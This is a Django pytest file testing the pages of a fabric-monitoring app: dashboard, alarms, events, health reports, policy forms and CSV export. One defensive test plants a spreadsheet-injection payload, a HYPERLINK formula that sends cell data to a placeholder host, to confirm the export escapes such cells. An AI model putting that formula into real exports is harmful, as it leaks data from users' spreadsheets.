"""Pages: dashboard, alarms, alarm, events, health (run + JSON), policies (Admin), node/port alarms."""

from __future__ import annotations

import json

import pytest
from django.test import Client

from events.models import HealthReport

pytestmark = pytest.mark.django_db


def test_pages_need_login(db):
    for url in ["/", "/alarms/", "/events/", "/health/", "/event-policies/"]:
        resp = Client().get(url)
        assert resp.status_code == 302 and "/accounts/login/" in resp["Location"], url


def test_dashboard_and_summary(alarm, users, topo, client_for):
    from django.utils import timezone

    from telemetry.models import PortCounters, Sweep

    s = Sweep.objects.create(fabric=topo.fabric, started=timezone.now(), interval_s=10)
    PortCounters.objects.create(
        port=topo.ports[("leaf01", 2)],
        sweep=s,
        congestion=0.7,
        symbol_errors=12,
        error_deltas={"symbol_errors": 4},
    )
    c = client_for(users["viewer"])
    html = c.get("/").content.decode()
    assert 'data-sev="critical">1<' in html and "leaf01 [2]" in html
    data = c.get("/dashboard/summary.json").json()
    assert data["alarms"] == {"info": 0, "warning": 0, "minor": 0, "critical": 1}
    assert (
        data["fabrics"][0]["switches"] == 3
        and data["fabrics"][0]["cas"] == 2
        and data["fabrics"][0]["links"] == 4
    )
    assert data["top_congested"][0]["port"] == "leaf01 [2]" and data["top_congested"][0]["congestion"] == 0.7
    assert data["top_errors"][0]["errors_last_sweep"] == 4 and data["top_errors"][0]["errors_total"] == 12


def test_alarm_pages_and_ack_buttons(alarm, users, client_for):
    html = client_for(users["operator"]).get("/alarms/").content.decode()
    assert "spine01 [1] &lt;-&gt; leaf01 [1]" in html and 'class="ack"' in html
    assert 'class="ack"' not in client_for(users["viewer"]).get("/alarms/").content.decode()
    assert client_for(users["viewer"]).post(f"/alarms/{alarm.pk}/acknowledge/").status_code == 403
    resp = client_for(users["operator"]).post(f"/alarms/{alarm.pk}/acknowledge/")
    assert resp.status_code == 302 and resp["Location"] == f"/alarms/{alarm.pk}/"
    alarm.refresh_from_db()
    assert alarm.state == "acknowledged"
    assert "Acknowledged" in client_for(users["viewer"]).get(f"/alarms/{alarm.pk}/").content.decode()


def test_node_and_port_pages_show_alarms(alarm, users, topo, client_for):
    from fabric.models import Port

    c = client_for(users["viewer"])
    node_html = c.get(f"/fabric/nodes/{topo.nodes['leaf01'].pk}/").content.decode()
    assert 'id="object-alarms"' in node_html and "Link down" in node_html
    port = Port.objects.get(node=topo.nodes["leaf01"], port_num=1)
    assert "Link down" in c.get(f"/fabric/ports/{port.pk}/").content.decode()
    other = Port.objects.get(node=topo.nodes["leaf02"], port_num=2)
    assert "No open alarms" in c.get(f"/fabric/ports/{other.pk}/").content.decode()


def test_events_page_filters(alarm, users, client_for):
    c = client_for(users["viewer"])
    assert "went down" in c.get("/events/?min_severity=critical").content.decode()
    assert "went down" not in c.get("/events/?code=node.added").content.decode()


def test_health_page_run_and_json(topo, users, client_for):
    assert client_for(users["viewer"]).post("/health/", {"fabric": topo.fabric.pk}).status_code == 403
    resp = client_for(users["operator"]).post("/health/", {"fabric": topo.fabric.pk})
    report = HealthReport.objects.get()
    assert resp.status_code == 302 and resp["Location"] == f"/health/{report.pk}/"
    page = client_for(users["viewer"]).get(f"/health/{report.pk}/").content.decode()
    assert "Health of lab" in page
    data = json.loads(client_for(users["viewer"]).get(f"/health/{report.pk}.json").content)
    assert data["fabric"] == "lab" and data["created_by"] == "olga"
    assert set(data["summary"]) >= {
        "duplicate_guid",
        "duplicate_lid",
        "invalid_lid",
        "link_below_capability",
        "port_errors",
        "unreachable_node",
        "sm_state",
    }
    # No master SM known for this stored fabric: the SM check says so.
    assert any(f["check"] == "sm_state" and f["severity"] == "critical" for f in data["findings"])


def test_policy_pages_admin_only(db, users, client_for):
    assert client_for(users["operator"]).get("/event-policies/").status_code == 403
    c = client_for(users["admin"])
    assert "link.down" in c.get("/event-policies/").content.decode()
    from events.models import EventPolicy

    p = EventPolicy.objects.get(code="port.congestion")
    resp = c.post(
        f"/event-policies/{p.pk}/",
        {
            "enabled": "on",
            "severity": "minor",
            "threshold": "0.6",
            "consecutive": "2",
            "ttl_s": "0",
            "raise_alarm": "on",
            "recipient_emails": "x@example.org",
        },
    )
    assert resp.status_code == 302, resp.content.decode()[:2000]
    p.refresh_from_db()
    assert (p.severity, p.threshold, p.consecutive) == ("minor", 0.6, 2)
    assert (p.clear_consecutive, p.clear_factor) == (3, 0.8)  # not sent: the congestion defaults stay
    form = {"enabled": "on", "severity": "minor", "threshold": "0.6", "consecutive": "2", "ttl_s": "0"}
    resp = c.post(f"/event-policies/{p.pk}/", {**form, "clear_consecutive": "5", "clear_factor": "0.7"})
    assert resp.status_code == 302
    p.refresh_from_db()
    assert (p.clear_consecutive, p.clear_factor) == (5, 0.7)
    resp = c.post(f"/event-policies/{p.pk}/", {**form, "clear_consecutive": "0", "clear_factor": "1.5"})
    assert resp.status_code == 200 and "at least 1 sweep" in resp.content.decode()


def test_open_alarms_are_listed_most_severe_first_history_by_time(alarm, users, client_for):
    from datetime import timedelta

    from events.models import Alarm

    # ``alarm`` is an active Critical; a newer Warning and an even newer Info must come after it
    now = alarm.last_seen
    for code, severity, minutes in (("port.errors", "warning", 5), ("port.congested", "info", 10)):
        Alarm.objects.create(
            fabric=alarm.fabric, code=code, severity=severity, object_key=f"k-{code}", object_repr=code,
            first_seen=now + timedelta(minutes=minutes), last_seen=now + timedelta(minutes=minutes),
        )  # fmt: skip
    html = client_for(users["viewer"]).get("/alarms/").content.decode()
    rows = [html.index(f'data-alarm="{a.pk}"') for a in Alarm.objects.order_by("-last_seen")]
    info, warning, critical = rows
    assert critical < warning < info, rows
    Alarm.objects.update(state="cleared")
    html = client_for(users["viewer"]).get("/alarms/?state=cleared").content.decode()
    rows = [html.index(f'data-alarm="{a.pk}"') for a in Alarm.objects.order_by("-last_seen")]
    assert rows == sorted(rows), "history is by time"


def _link_up(topo):
    """The system clears the link-down alarm of ``alarm``: a ``link.up`` on the same link."""
    from events.engine import process_pending_events
    from events.services import EventSpec, record_events

    record_events(
        topo.fabric,
        [
            EventSpec(
                code="link.up",
                message="spine01 [1] <-> leaf01 [1] came up",
                category="topology",
                object_type="link",
                object_key=topo.link_key(("spine01", 1), ("leaf01", 1)),
                object_repr="spine01 [1] <-> leaf01 [1]",
            )
        ],
    )
    process_pending_events(topo.fabric.pk)


def test_dashboard_latest_alarms_follow_raise_and_clear(alarm, users, topo, client_for):
    c = client_for(users["viewer"])
    html = c.get("/").content.decode()
    assert f'<tr data-alarm="{alarm.pk}">' in html and "Link down" in html
    recent = c.get("/dashboard/summary.json").json()["recent_alarms"]
    assert [(a["id"], a["state"], a["state_text"]) for a in recent] == [(alarm.pk, "active", "Active")]
    _link_up(topo)
    assert c.get("/dashboard/summary.json").json()["recent_alarms"] == []
    html = c.get("/").content.decode()
    assert f'data-alarm="{alarm.pk}"' not in html and "No open alarms." in html


def test_system_clear_after_acknowledge_is_not_cleared_by_the_user(alarm, users, topo, client_for):
    from events.models import Alarm
    from events.services import acknowledge

    acknowledge(alarm.pk, users["operator"])
    assert Alarm.objects.get(pk=alarm.pk).state_text == "Acknowledged by olga"
    _link_up(topo)
    cleared = Alarm.objects.get(pk=alarm.pk)
    assert cleared.state == "cleared" and cleared.cleared_by is None
    assert cleared.state_text == "Cleared (acknowledged by olga)"
    html = client_for(users["viewer"]).get(f"/alarms/{alarm.pk}/").content.decode()
    assert "Cleared (acknowledged by olga)" in html and "Cleared by olga" not in html
    assert "(by the system)" in html
    listing = client_for(users["viewer"]).get("/alarms/?state=cleared").content.decode()
    assert "Cleared (acknowledged by olga)" in listing


def test_user_clear_names_the_user(alarm, users):
    from events.services import clear_alarm

    assert clear_alarm(alarm.pk, users["operator"], "cable reseated").state_text == "Cleared by olga"


def test_bulk_acknowledge_is_for_operators_and_audited(alarm, users, client_for):
    from accounts.models import AuditEntry
    from events.models import Alarm

    viewer_html = client_for("viewer").get("/alarms/").content.decode()
    assert 'id="bulk-ack"' not in viewer_html and 'name="alarm"' not in viewer_html
    assert client_for("viewer").post("/alarms/acknowledge/", {"alarm": [alarm.pk]}).status_code == 403
    op = client_for("operator")
    html = op.get("/alarms/").content.decode()
    assert f'<input type="checkbox" name="alarm" value="{alarm.pk}" form="bulk-ack" class="pick">' in html
    resp = op.post(
        "/alarms/acknowledge/", {"alarm": [alarm.pk, 999999], "next": "/alarms/?severity=critical"}
    )
    assert resp.status_code == 302 and resp["Location"] == "/alarms/?severity=critical"
    assert Alarm.objects.get(pk=alarm.pk).state_text == "Acknowledged by olga"
    assert AuditEntry.objects.filter(action="alarm.acknowledge", object_id=str(alarm.pk)).count() == 1
    follow = op.get("/alarms/").content.decode()
    assert "1 alarm acknowledged; 1 skipped" in follow
    assert op.post("/alarms/acknowledge/", {"alarm": ["x"]}).status_code == 400


def test_alarm_csv_export_follows_the_filters(alarm, users, client_for):
    import csv
    import io

    c = client_for("viewer")
    assert 'href="/alarms/export.csv?' in c.get("/alarms/").content.decode()
    resp = c.get("/alarms/export.csv")
    assert resp.status_code == 200 and resp["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(resp.content.decode())))
    assert [(r["id"], r["severity"], r["type"], r["object"], r["state"]) for r in rows] == [
        (str(alarm.pk), "critical", "link.down", "spine01 [1] <-> leaf01 [1]", "active")
    ]
    assert list(csv.reader(io.StringIO(c.get("/alarms/export.csv?severity=info").content.decode()))) == [
        list(csv.reader(io.StringIO(resp.content.decode())))[0]
    ]


def test_policy_form_labels_in_the_fields_terms_with_units(db, users, client_for):
    from events.models import EventPolicy
    from events.policies import ensure_policies

    ensure_policies()
    congestion = EventPolicy.objects.get(code="port.congestion")
    html = client_for("admin").get(f"/event-policies/{congestion.pk}/").content.decode()
    assert "Threshold (congestion index (0..1))" in html
    assert "Alarm lifetime after its last raise (seconds; 0 = until cleared)" in html
    assert "Ttl s" not in html and "Clear factor:" not in html
    up = EventPolicy.objects.get(code="link.up")
    assert "not used: this event type has no condition rule" in (
        client_for("admin").get(f"/event-policies/{up.pk}/").content.decode()
    )


def test_health_report_names_checks_for_people(topo, users, client_for):
    from events.reports import run_health_report

    report = run_health_report(topo.fabric, users["operator"])
    html = client_for("viewer").get(f"/health/{report.pk}/").content.decode()
    assert "Duplicate LIDs" in html and "Links below capability (width/speed)" in html
    assert '<div class="muted" title="duplicate_lid">' in html
    assert client_for("viewer").get(f"/health/{report.pk}.json").json()["summary"].keys() >= {"duplicate_lid"}


def test_dashboard_top_tables_name_the_fabric(alarm, users, topo, client_for):
    from django.utils import timezone

    from telemetry.models import PortCounters, Sweep

    s = Sweep.objects.create(fabric=topo.fabric, started=timezone.now(), interval_s=10)
    PortCounters.objects.create(port=topo.ports[("leaf01", 2)], sweep=s, congestion=0.7)
    c = client_for("viewer")
    row = c.get("/dashboard/summary.json").json()["top_congested"][0]
    assert row["fabric_name"] == topo.fabric.name
    assert f"<tr><td>{topo.fabric.name}</td><td><a" in c.get("/").content.decode()


def test_bulk_acknowledge_refuses_ids_beyond_a_row_id_and_writes_nothing(alarm, users, client_for, caplog):
    """A 20-digit or negative id is a 400 naming the field (it overflowed the database's 64-bit
    integer: a 500 with a traceback); no alarm in the post is acknowledged."""
    from events.models import Alarm

    op = client_for("operator", raise_request_exception=False)
    for bad in ("99999999999999999999999", "-1", "+3", " 3"):
        resp = op.post("/alarms/acknowledge/", {"alarm": [alarm.pk, bad]})
        assert resp.status_code == 400 and b"alarm" in resp.content, bad
    assert Alarm.objects.get(pk=alarm.pk).acknowledged_by_id is None
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


def test_alarm_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(alarm, users, client_for):
    """Object names and messages come from the fabric (NodeDescription is set by each host): a
    cell starting with =, +, -, @ is written with a leading apostrophe (core.csvcells, as the
    ports CSV); the alarm CSV wrote them as they were."""
    import csv
    import io

    from events.models import Alarm

    Alarm.objects.filter(pk=alarm.pk).update(
        object_repr='=HYPERLINK("http://x.example/?"&A1,"open")', message="@SUM(1+1)", object_key="-x"
    )
    body = client_for("viewer").get("/alarms/export.csv").content.decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["object"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert (row["message"], row["object_key"], row["count"]) == ("'@SUM(1+1)", "'-x", "1")


def test_dashboard_shows_ratios_in_percent_and_alarm_details_as_a_list(alarm, users, topo, client_for):
    """Issue 26: the dashboard showed congestion as 0.38 where the heatmap shows %, and the alarm
    page showed its details as a raw Python dict. One unit (%, one decimal, as the heatmap) and
    a key: value list."""
    from django.utils import timezone

    from telemetry.models import PortCounters, Sweep

    s = Sweep.objects.create(fabric=topo.fabric, started=timezone.now(), interval_s=10)
    PortCounters.objects.create(port=topo.ports[("leaf01", 2)], sweep=s, congestion=0.384, utilisation=0.05)
    c = client_for(users["viewer"])
    html = c.get("/").content.decode()
    assert "<th>Congestion (%)</th>" in html and "<td>38.4 %</td><td>5.0 %</td>" in html
    assert "0.38" not in html
    alarm.details = {
        "value": 30.0,
        "threshold": 10,
        "counters": ["symbol_errors", "rcv_errors"],
        "source": None,
    }
    alarm.save(update_fields=["details"])
    page = c.get(f"/alarms/{alarm.pk}/").content.decode()
    assert "{&#x27;" not in page and "{'" not in page
    assert (
        '<dl class="kv" id="alarm-details"><dt>counters</dt><dd>symbol_errors, rcv_errors</dd>'
        "<dt>source</dt><dd>—</dd><dt>threshold</dt><dd>10</dd><dt>value</dt><dd>30</dd></dl>"
    ) in page
